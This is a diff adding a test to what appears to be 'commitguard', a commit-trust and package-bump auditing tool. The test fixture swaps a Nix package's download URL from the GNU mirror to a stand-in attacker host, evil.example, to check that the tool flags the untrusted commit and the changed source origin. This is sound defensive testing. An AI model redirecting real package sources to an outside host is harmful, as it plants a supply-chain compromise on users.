@@ -361,3 +361,24 @@ def test_check_pr_github_mode_says_why_it_exits_1(world):
     assert res.json["ok"] is False
     assert res.stderr == ("commitguard: check-pr: exit 1: the pull request is not OK to merge (untrusted commits "
                           "or missing approvals: see the report)\n")
+
+
+def test_local_check_pr_and_audit_bump_say_why_they_exit_1(scratch, keyring):
+    r = Repo(scratch / "pr-repo", scratch)
+    base = r.commit("hello: init at 2.12", {"pkgs/by-name/he/hello/package.nix": PACKAGE})
+    head = r.commit("hello: move to github", {"pkgs/by-name/he/hello/package.nix": PACKAGE.replace(
+        "fetchurl {\n    url = \"https://ftp.gnu.org/gnu/hello/hello-${version}.tar.gz\";",
+        "fetchurl {\n    url = \"https://evil.example/hello-${version}.tar.gz\";")})
+    ruled = scratch / "keyring-with-rule"
+    ruled.mkdir()
+    (ruled / "keyring.toml").write_text((keyring / "keyring.toml").read_text()
+                                        + '\n[[rule]]\npaths = ["pkgs/**"]\napprovals = 1\napprovers = ["alice"]\n')
+    pr = cli(scratch, "check-pr", "--repo", r.root, "--keyring", ruled, "--base", base, "--head", head,
+             "--no-cache", "--format", "json")
+    assert pr.code == 1, pr.describe()
+    assert pr.stderr.splitlines()[-1] == ("commitguard: check-pr: exit 1: not OK to merge: 1 of 1 commits not trusted; "
+                                          "rule pkgs/** needs 1 more signed approval(s)")
+    bump = cli(scratch, "audit-bump", "--repo", r.root, "--base", base, "--head", head, "--format", "json")
+    assert bump.code == 1, bump.describe()
+    assert bump.stderr == ("commitguard: audit-bump: exit 1: the change needs review: source-origin-changed "
+                           "(--fail-on high)\n")
